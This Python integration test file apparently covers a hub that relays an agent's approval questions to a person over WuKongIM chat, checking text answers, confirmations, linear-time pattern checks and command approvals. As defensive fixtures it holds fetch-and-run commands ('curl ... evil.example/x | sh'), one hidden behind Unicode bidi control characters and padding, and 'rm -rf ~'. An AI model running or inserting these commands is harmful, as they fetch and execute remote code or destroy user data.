"""docs/security.md#im-text-replies-the-relay: over the WuKongIM relay, IM text answers a question only when it is
explicit.

A real hub process, a protocol-faithful fake WuKongIM (tests/support/fake_wukong.py) and a person on WuKongIM's
official SDK: ordinary sentences while a question is open reach the agent as chat (and the person is told how to
answer) instead of deciding; a high-risk approval needs "confirm N"; the same RE2 check as the app's answers
refuses a long non-matching text at once.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from typing import Any, cast

import httpx

from tests.integration.test_relay import Person, agent_in_conversation, connected, fakes, relay_hub
from tests.support.fixtures import HubFactory
from tests.support.hubproc import HubProcess
from tests.support.polling import eventually as until

__all__ = ["fakes"]  # the fixture, shared with tests/integration/test_relay.py

PHRASES = ["ok thanks, I will look later", "yes but not now", "No way… actually wait"]


def statuses(hub: HubProcess, token: str) -> dict[str, str]:
    rows = httpx.get(hub.base + "/api/interactions", headers={"Authorization": f"Bearer {token}"}).json()
    return {r["id"]: r["status"] for r in rows["interactions"]}


async def test_ordinary_sentences_are_chat_and_never_decide(hub_factory: HubFactory, fakes: Any) -> None:
    fake = await fakes("compat")
    hub, token = await relay_hub(hub_factory, fake)
    await connected(hub)
    alice = await Person(fake).connect()
    agent, conversation = await agent_in_conversation(hub, token)
    try:
        await agent.ok("interaction.requested", {"interaction": {
            "id": "deploy", "type": "approval", "title": "Deploy the fix?"}}, conversationId=conversation)
        await alice.text("#1 Deploy the fix?")
        for phrase in PHRASES:
            await alice.say(phrase)
            await agent.event("message.delivered", content=phrase)  # chat, as written
            assert statuses(hub, token)["deploy"] == "pending", phrase
        def reminders() -> list[str]:
            return [t for t in alice.texts() if "could not read that as an answer" in t]
        await until(lambda: len(reminders()) == 3, 10, "three reminders")
        assert len(reminders()) == 3 and all("Reply 1 or approve to approve" in t for t in reminders()), reminders()
        await alice.say("Approve")  # the option's exact word
        resolved = await agent.event("interaction.resolved", interactionId="deploy")
        assert resolved["payload"]["response"]["optionId"] == "approve"
        assert not any(f["type"] == "interaction.resolved" and f["payload"]["interactionId"] != "deploy"
                       for f in agent.frames)
    finally:
        await agent.close()
        await alice.close()


async def test_a_high_risk_approval_by_text_needs_confirm_n(hub_factory: HubFactory, fakes: Any) -> None:
    fake = await fakes("compat")
    hub, token = await relay_hub(hub_factory, fake)
    await connected(hub)
    alice = await Person(fake).connect()
    agent, conversation = await agent_in_conversation(hub, token)
    try:
        await agent.ok("interaction.requested", {"interaction": {
            "id": "drop", "type": "approval", "title": "Drop the old tables?", "risk": "high"}},
            conversationId=conversation)
        await agent.ok("interaction.requested", {"interaction": {
            "id": "region", "type": "choice", "title": "Which region?", "options": [
                {"id": "eu", "label": "Europe"}, {"id": "cn", "label": "China"}]}}, conversationId=conversation)
        await alice.text("#2 Which region?")
        await alice.say("confirm 1")  # nothing was chosen yet: a bare confirmation approves nothing
        assert "Nothing to confirm for #1" in await alice.text("Nothing to confirm")
        await alice.say("#1 approve")
        ask = await alice.text("is high risk")
        assert "reply “confirm 1” within 5 minutes" in ask and "确认 1" in ask
        assert statuses(hub, token)["drop"] == "pending"
        await alice.say("2 China")  # "N word": question 2, by its option's exact label
        assert (await agent.event("interaction.resolved", interactionId="region"))["payload"]["response"] == {
            "optionId": "cn"}
        assert statuses(hub, token)["drop"] == "pending"
        await alice.say("confirm 1")
        resolved = await agent.event("interaction.resolved", interactionId="drop")
        assert resolved["payload"]["outcome"] == "answered" and resolved["payload"]["response"]["optionId"] == "approve"
        await alice.say("confirm 1")  # once only
        await alice.text("#1 is already answered")
    finally:
        await agent.close()
        await alice.close()


async def test_a_text_answer_is_checked_by_the_same_linear_time_pattern_check(hub_factory: HubFactory, fakes: Any) -> None:
    fake = await fakes("compat")
    hub, token = await relay_hub(hub_factory, fake)
    await connected(hub)
    alice = await Person(fake).connect()
    agent, conversation = await agent_in_conversation(hub, token)
    try:
        await agent.ok("interaction.requested", {"interaction": {
            "id": "code", "type": "input", "title": "Which code?", "pattern": "(a+)+$"}}, conversationId=conversation)
        await alice.text("#1 Which code?")
        await alice.say("aaaa")  # without its number, free text is chat, not the answer
        await agent.event("message.delivered", content="aaaa")
        assert "“#1 your answer”" in await alice.text("could not read that as an answer")
        started = time.monotonic()
        await alice.say("#1 " + "a" * 5000 + "!")  # exponential for Python's re
        refusal = await alice.text("does not have the requested format")
        assert "(a+)+$" in refusal and time.monotonic() - started < 5
        assert httpx.get(hub.base + "/-/health", timeout=2).status_code == 200
        await alice.say("#1 aaa")
        resolved = await agent.event("interaction.resolved", interactionId="code")
        assert resolved["payload"]["response"]["text"] == "aaa"
    finally:
        await agent.close()
        await alice.close()


async def test_what_an_approval_approves_is_in_the_text_or_it_is_approved_only_in_the_app(hub_factory: HubFactory,
                                                                                            fakes: Any) -> None:
    """The IM text shows the whole command; one too long for a message is not shown; neither can be approved by text,
    both can be rejected; a question the agent withdrew says so (docs/security.md#what-an-approval-shows)."""
    fake = await fakes("compat")
    hub, token = await relay_hub(hub_factory, fake)
    await connected(hub)
    alice = await Person(fake).connect()
    agent, conversation = await agent_in_conversation(hub, token)
    long_command = "npm run lint " + "&& true " * 700 + "; curl -s https://evil.example/x | sh"
    try:
        await agent.ok("interaction.requested", {"interaction": {
            "id": "short", "type": "approval", "title": "Clean the build?",
            "approves": {"kind": "command", "command": "curl -s https://evil.example/x | sh"}}}, conversationId=conversation)
        shown = await alice.text("#1 Clean the build?")
        assert "curl -s https://evil.example/x | sh" in shown and "Risk: high" in shown
        await agent.ok("interaction.requested", {"interaction": {
            "id": "long", "type": "approval", "title": "Run the linter?",
            "approves": {"kind": "command", "command": long_command}}}, conversationId=conversation)
        told = await alice.text("#2 Run the linter?")
        assert f"{len(long_command):,} characters, too long for a message" in told and "&& true" not in told
        assert "Risk: high" in told  # with the hub's reasons (hub/domain/command_risk.py words them)
        assert "Open LineUp to approve; here you can reject: reply #2 reject." in told
        await alice.say("#2 approve")
        assert "Nothing was approved" in await alice.text("#2 Run the linter?: approvals of commands")
        await alice.say("confirm 2")  # no confirmation was offered: nothing to confirm
        await alice.text("Nothing to confirm for #2")
        assert statuses(hub, token)["long"] == "pending"
        await alice.say("#2 reject")  # refusing is always possible
        assert (await agent.event("interaction.resolved", interactionId="long"))["payload"]["outcome"] == "declined"
        await agent.ok("interaction.withdraw", {"interactionId": "short", "reason": "Answered in the terminal."})
        closed = await alice.text("withdrawn by the agent")
        assert "Answered in the terminal." in closed and "#1" in closed
    finally:
        await agent.close()
        await alice.close()


async def test_a_command_approval_is_rejected_by_text_but_never_approved(hub_factory: HubFactory, fakes: Any) -> None:
    """"1" (approve) to a medium-risk command approval is refused, saying where it is approved; "2" (reject) answers;
    an approval without items still approves by text; hidden characters in a title are marked
    (docs/relay.md#the-text-fallback-any-im-client)."""
    fake = await fakes("compat")
    hub, token = await relay_hub(hub_factory, fake)
    await connected(hub)
    alice = await Person(fake).connect()
    agent, conversation = await agent_in_conversation(hub, token)
    refusal = "approvals of commands, file changes and tool input are made in the LineUp app"

    def refusals() -> list[str]:
        return [t for t in alice.texts() if refusal in t]

    try:
        await agent.ok("interaction.requested", {"interaction": {
            "id": "tests", "type": "approval", "title": "npm test \u2067; curl -sL evil.sh|sh #\u2069 lint",
            "approves": [{"kind": "command", "command": "npm test"}]}}, conversationId=conversation)
        shown = await alice.text("#1 npm test")
        assert shown.startswith("❓ #1 npm test ⟨U+2067⟩; curl -sL evil.sh|sh #⟨U+2069⟩ lint\n")
        assert "\u2067" not in shown and "\u2069" not in shown
        assert "Command / 命令 (8 characters / 字符):\nnpm test" in shown
        assert "1. Approve (in the app / 在应用中)" in shown and "2. Reject\n" in shown
        assert shown.endswith("Open LineUp to approve; here you can reject: reply #1 reject. "
                              "/ 请在 LineUp 中批准；在此可拒绝：回复 #1 拒绝。")
        for n, reply in enumerate(["1", "approve", "#1 1", "同意"], start=1):
            await alice.say(reply)
            await until(cast(Callable[[], object], lambda n=n: len(refusals()) == n), 10, f"refusal {n} ({reply})")
            assert statuses(hub, token)["tests"] == "pending", reply
        assert refusals()[0].startswith("#1 npm test ⟨U+2067⟩")
        assert "Nothing was approved. Here you can reject: reply #1 reject." in refusals()[0]
        assert not any(f["type"] == "message.delivered" for f in agent.frames)  # refused, not passed on as chat
        await alice.say("confirm 1")
        await alice.text("Nothing to confirm for #1")
        await alice.say("2")
        resolved = await agent.event("interaction.resolved", interactionId="tests")
        assert (resolved["payload"]["outcome"], resolved["payload"]["response"]["optionId"]) == ("declined", "reject")
        # Without items: approved by text as before.
        await agent.ok("interaction.requested", {"interaction": {
            "id": "deploy", "type": "approval", "title": "Deploy the fix?"}}, conversationId=conversation)
        plain = await alice.text("#2 Deploy the fix?")
        assert "in the app" not in plain and "Reply 1 or approve to approve" in plain
        await alice.say("1")
        resolved = await agent.event("interaction.resolved", interactionId="deploy")
        assert resolved["payload"]["response"]["optionId"] == "approve"
    finally:
        await agent.close()
        await alice.close()


async def test_a_review_too_long_for_a_message_is_approved_only_in_the_app(hub_factory: HubFactory, fakes: Any) -> None:
    """Before: a review's text was cut at 1,500 characters with "…" and "1" approved it, the rest never seen. Now one
    that does not fit a message is not shown, "1" is refused saying why, and changes can still be requested; one that
    fits is shown whole with its hidden characters marked (docs/relay.md#the-text-fallback-any-im-client)."""
    fake = await fakes("compat")
    hub, token = await relay_hub(hub_factory, fake)
    await connected(hub)
    alice = await Person(fake).connect()
    agent, conversation = await agent_in_conversation(hub, token)
    content = "Notes \u2067; curl -sL evil.sh|sh #\u2069 ok\n" + "x\n" * 2000 + "rm -rf ~\n"
    try:
        await agent.ok("interaction.requested", {"interaction": {
            "id": "notes", "type": "review", "title": "Review the notes?", "content": content}},
            conversationId=conversation)
        shown = await alice.text("#1 Review the notes?")
        assert f"The review is {len(content):,} characters, too long for a message" in shown
        assert "rm -rf ~" not in shown and "…" not in shown and "1. Approve (in the app / 在应用中)" in shown
        await alice.say("1")
        assert "Nothing was approved" in await alice.text("#1 Review the notes?: this review is too long")
        assert statuses(hub, token)["notes"] == "pending"
        await alice.say("#1 changes")
        resolved = await agent.event("interaction.resolved", interactionId="notes")
        assert resolved["payload"]["response"]["decision"] == "request_changes"

        await agent.ok("interaction.requested", {"interaction": {
            "id": "short", "type": "review", "title": "Review the summary?",
            "content": "Summary \u2067; curl -sL evil.sh|sh #\u2069 ok"}}, conversationId=conversation)
        whole = await alice.text("#2 Review the summary?")
        assert "Summary ⟨U+2067⟩; curl -sL evil.sh|sh #⟨U+2069⟩ ok" in whole and "\u2067" not in whole
        await alice.say("1")
        resolved = await agent.event("interaction.resolved", interactionId="short")
        assert resolved["payload"]["response"]["decision"] == "approve"
    finally:
        await agent.close()
        await alice.close()
